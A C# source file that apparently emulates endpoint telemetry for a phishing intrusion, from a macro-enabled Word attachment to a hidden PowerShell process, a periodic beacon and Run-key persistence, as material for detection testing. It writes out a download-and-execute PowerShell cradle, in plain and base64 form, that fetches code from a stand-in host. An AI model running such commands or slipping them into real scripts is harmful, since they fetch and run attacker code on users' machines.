namespace CbResponse.Emulator;

/// <summary>
/// How it begins: a document from a mail is opened, its macro starts PowerShell, which fetches a program and reports to
/// its server every five minutes.
/// </summary>
internal static class PhishingChapter
{
    public const string ControlDomain = "cdn-telemetry-update.example";
    public const string ControlAddress = "203.0.113.66";
    public const string ControlJa3 = "72a589da586844d7f0818ce684948eea";

    private const string Encoded =
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHQAZQBsAGUAbQBlAHQAcgB5AC0AdQBwAGQAYQB0AGUALgBlAHgAYQBtAHAAbABlAC8AYQAnACkA";

    /// <summary>Returns the PowerShell that the intruder works from.</summary>
    public static StoryProcess Tell(WindowsLife host)
    {
        StoryProcess explorer = host.Explorer!;
        StoryProcess outlook = WindowsLife.Run(explorer, explorer.Ago(290), WindowsSoftware.Outlook,
            "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\"")
            .Connects(5, "10.20.2.9", 443, "mail.contoso.test");
        outlook.Writes(outlook.Ago(161),
            @"c:\users\anna.müller\appdata\local\microsoft\windows\inetcache\content.outlook\q7k2\rechnung_märz.docm", fileType: 17);
        StoryProcess word = WindowsLife.Run(
                outlook,
                outlook.Ago(160),
                WindowsSoftware.Winword,
                "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\anna.müller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7K2\\Rechnung_März.docm\" /o \"\"")
            .Loads(4, WindowsSoftware.Vbe7)
            .Registers(5, RegistryAction.WriteValue,
                @"\registry\user\s-1-5-21-1004336348-1177238915-682003330-1105\software\microsoft\office\16.0\word\security\trusted documents\trustrecords\rechnung_märz.docm");
        return TellScript(word);
    }

    private static StoryProcess TellScript(StoryProcess word)
    {
        StoryProcess shell = WindowsLife.Run(word, 21, WindowsSoftware.PowerShell,
            $"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {Encoded}")
            .Loads(0.6, WindowsSoftware.Amsi, WindowsSoftware.Winhttp)
            .Connects(1.8, ControlAddress, 443, ControlDomain, ja3: ControlJa3)
            .Writes(4.2, AttackSoftware.Beacon.Path, fileType: 1, content: AttackSoftware.Beacon);
        shell.StartsSuppressed(0.1, 4_000, WindowsSoftware.Conhost, @"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1");
        const string Script = "IEX (New-Object Net.WebClient).DownloadString('https://cdn-telemetry-update.example/a') | Out-Null; $x = 'a|b|c'";
        shell.Events.Add(new ScriptLoadEvent(shell.At(1.1), 1, StableHash.Hex(StableHash.Of(Script), 64), Script));
        StoryProcess beacon = WindowsLife.Run(shell, 6, AttackSoftware.Beacon,
            "\"C:\\Users\\anna.müller\\AppData\\Roaming\\Adobe\\ARM\\AdobeARMHelper.exe\" --id 7f3a");
        for (double at = 10; at < beacon.Ago(3); at += 300)
            beacon.Connects(at, ControlAddress, 443, ControlDomain, ja3: ControlJa3);
        beacon.Registers(15, RegistryAction.WriteValue,
            @"\registry\user\s-1-5-21-1004336348-1177238915-682003330-1105\software\microsoft\windows\currentversion\run\adobearmhelper");
        return shell;
    }
}
